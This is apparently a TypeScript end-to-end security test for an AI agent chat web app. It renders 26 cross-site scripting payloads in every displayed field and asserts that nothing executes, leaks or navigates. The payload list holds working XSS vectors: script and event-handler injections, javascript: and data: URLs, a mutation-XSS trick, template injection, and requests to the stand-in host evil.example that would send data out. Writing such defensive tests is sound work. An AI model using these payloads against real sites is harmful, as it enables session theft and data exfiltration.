// Promise: hostile text is inert wherever the page shows it. 26 payloads, each in ten places of the real page under its real
// policy: no script runs, nothing is asked of another host, nobody is led away.

import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, it } from 'vitest'

import type { EventBody } from '../../src/agent/events.ts'
import { sharedSatchel } from '../e2e/shared.ts'
import { frame, message, RUN } from '../unit/web/frames.ts'
import { ask, scripted, startBrowser, stream } from './open.ts'

const RUNS = 'globalThis.pwned=1'
const PAYLOADS: readonly string[] = [
  `<script>${RUNS}</script>`,
  `"><script src="https://evil.example/x.js"></script>`,
  `<img src=x onerror="${RUNS}">`,
  `<img src="https://evil.example/p.png?secret">`,
  `<svg onload="${RUNS}"><use href="https://evil.example/#x"/></svg>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/"><a href="/v1">x</a>`,
  `<form action="https://evil.example/"><button autofocus>Send</button></form>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUNS}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUNS}>">`,
  `<style>@import url(https://evil.example/a.css);*{background:url(https://evil.example/b)}</style>`,
  `[go](javascript:${RUNS}) [go](JaVaScRiPt:${RUNS}) [go](<java\tscript:${RUNS}>)`,
  `[go](&#x6A;avascript:${RUNS}) [go](\u0001javascript:${RUNS}) [go](vbscript:x)`,
  `[page](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==)`,
  `![p](https://evil.example/p.png) ![q](data:image/svg+xml;base64,PHN2Zy8+ "t")`,
  `[a]: javascript:${RUNS}\n\n[a] and <javascript:${RUNS}>`,
  `[x](https://evil.example/" onmouseover="${RUNS} "title" onclick="${RUNS}")`,
  '```html\n<script>globalThis.pwned=1</script>\n```\n~~~"><img src=x onerror=1>\nx\n~~~',
  `| a | b |\n|---|:-:|\n| <img src=x onerror=${RUNS}> | [x](javascript:${RUNS}) |`,
  `{{constructor.constructor('${RUNS}')()}} \${${RUNS}} <%= 1 %>`,
  `\u202Egnp.exe\u2066 \u200B\u200D\uFEFF \uD800 \0 \u2028 </textarea></title>`,
  `'"\`><img/src/onerror=${RUNS}>--!><x onpointerenter=${RUNS}>`,
  `javascript:${RUNS}`,
  `blob:https://evil.example/1 //evil.example/x file:///etc/passwd`,
  `${'<b>'.repeat(300)}${'> '.repeat(300)}${'*_`['.repeat(150)}<img src=x onerror=${RUNS}>`,
]

const satchel = sharedSatchel()
let browser: Browser
beforeAll(async () => {
  browser = await startBrowser()
})
afterAll(async () => browser?.close())

/** A run in which everything that somebody else chose is the payload. */
function runOf(text: string): readonly EventBody[] {
  const at = '2030-01-02T03:04:05.000Z'
  return [
    { type: 'run.accepted', status: 'running' },
    { type: 'run.started', model: text, build: 'b', catalog_version: 1, demo: false },
    { type: 'thread.titled', title: text },
    { type: 'skill.loaded', name: text, category: 'custom', digest: text, via: 'slash' },
    { type: 'thinking.delta', step: 1, block: 0, offset: 0, text },
    { type: 'text.delta', step: 1, block: 1, offset: 0, text },
    { type: 'tool.started', tool_use_id: 'a', name: text, input: { path: text, [text]: text } },
    { type: 'tool.completed', tool_use_id: 'a', name: text, is_error: true, preview: text, duration_ms: 1 },
    {
      type: 'tool.started',
      tool_use_id: 'q',
      name: 'ask_clarification',
      input: { question: text, options: [text] },
    },
    { type: 'budget.warning', detail: text },
    {
      type: 'artifact.presented',
      path: `/mnt/user-data/outputs/${text}`,
      title: text,
      media_type: text,
      href: '/v1/x',
    },
    { type: 'tool.started', tool_use_id: 'c', name: text, input: { text } },
    {
      type: 'approval.requested',
      tool_use_id: 'c',
      name: text,
      input: { [text]: text },
      request: {
        kind: 'tool',
        method: text,
        url: text,
        headers: { [text]: text },
        body: text,
        notes: [text],
      },
      reason: text,
      digest: 'd',
      expires_at: at,
    },
    { type: 'run.waiting', reason: 'approval', tool_use_ids: ['c'], until: at },
  ]
}

/** What would be wrong with the document, whoever made it so. */
async function wrongs(page: Page): Promise<readonly string[]> {
  return page.evaluate(() => {
    const wrong: string[] = []
    const own = new Set([location.origin])
    for (const element of document.querySelectorAll('*')) {
      const tag = element.localName
      if (['iframe', 'object', 'embed', 'base', 'style', 'math', 'template'].includes(tag)) wrong.push(tag)
      if (tag === 'script' && element.textContent !== '') wrong.push('a script with words')
      if (tag === 'meta' && element.hasAttribute('http-equiv')) wrong.push('meta http-equiv')
      for (const { name, value } of element.attributes) {
        if (/^on|^srcdoc$|^style$|^formaction$|^ping$/.test(name)) wrong.push(`${tag}[${name}=${value}]`)
        if (!['href', 'src', 'action', 'srcset', 'data', 'poster', 'xlink:href'].includes(name)) continue
        const url = new URL(value, location.href)
        const isLink = tag === 'a' && name === 'href' && ['http:', 'https:', 'mailto:'].includes(url.protocol)
        const isOwn = own.has(url.origin) && url.protocol !== 'javascript:'
        if (!isLink && !isOwn && url.protocol !== 'blob:') wrong.push(`${tag}[${name}=${value}]`)
        if (isLink && !isOwn && element.getAttribute('rel') !== 'noopener noreferrer')
          wrong.push(`a link without rel: ${value}`)
      }
    }
    if ('pwned' in globalThis) wrong.push('a script ran')
    return wrong
  })
}

it.each(PAYLOADS.map((payload, at) => [at + 1, payload]))(
  'payload %i is text in every place',
  async (_, text) => {
    const at = '2026-01-02T03:04:05.000Z'
    const skill = {
      name: text,
      description: text,
      category: 'custom',
      enabled: true,
      updated_at: at,
      digest: text,
      tags: [text],
      user_invocable: true,
      model_invocable: true,
      argument_hint: text,
    }
    const thread = {
      id: 'th_2',
      title: text,
      updated_at: at,
      created_at: at,
      forked_from: null,
      branches: [],
      match: { before: text, hit: text, after: text },
    }
    const file = {
      path: `uploads/${text}`,
      bytes: 3,
      media_type: text,
      origin: 'upload',
      created_at: at,
      updated_at: at,
      href: '/v1/x',
      sha256: 'x',
    }
    const page = { json: { data: [skill], next_cursor: null } }
    const opened = await scripted(browser, satchel.url, '', {
      'GET /v1/skills': async () => page,
      'GET /v1/threads': async () => ({ json: { data: [thread], next_cursor: null } }),
      'GET /v1/threads/th_1/files': async () => ({ json: { data: [file], next_cursor: null } }),
      'POST /v1/chat': async () => stream(runOf(text).map((body, n) => frame(n + 1, body))),
      [`GET /v1/threads/th_1/runs/${RUN}/events`]: async () => new Promise(() => undefined),
      'GET /v1/threads/th_1/messages': async () => ({
        json: { data: [message('m', 'user', [])], next_cursor: null },
      }),
    })
    const { page: tab, complaints } = opened
    const foreign: string[] = []
    tab.on('request', (request) => {
      if (!request.url().startsWith(`${satchel.url}/`) && !request.url().startsWith('blob:'))
        foreign.push(request.url())
    })
    tab.on('dialog', (dialog) => {
      foreign.push(`dialog: ${dialog.message()}`)
      void dialog.dismiss()
    })
    tab.on('popup', (popup) => foreign.push(`popup: ${popup.url()}`))
    expect(await wrongs(tab), 'an empty chat, the list of threads').toEqual([])
    await ask(tab, text.replaceAll('\n', ' '))
    await tab.getByRole('button', { name: 'Approve' }).waitFor()
    await tab.evaluate(() => {
      for (const details of document.querySelectorAll('details')) details.open = true
    })
    // Highlighting and what comes late.
    await tab.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 0))))
    expect(await wrongs(tab), 'an answer with steps, a question, files and an approval').toEqual([])
    await tab.goto(`${satchel.url}/#skills`)
    await tab.getByRole('region', { name: 'Skills' }).waitFor()
    expect(await wrongs(tab), 'the library').toEqual([])
    expect(foreign).toEqual([])
    expect(complaints).toEqual([])
    expect(new URL(tab.url()).origin).toBe(new URL(satchel.url).origin)
    await tab.context().close()
  },
)
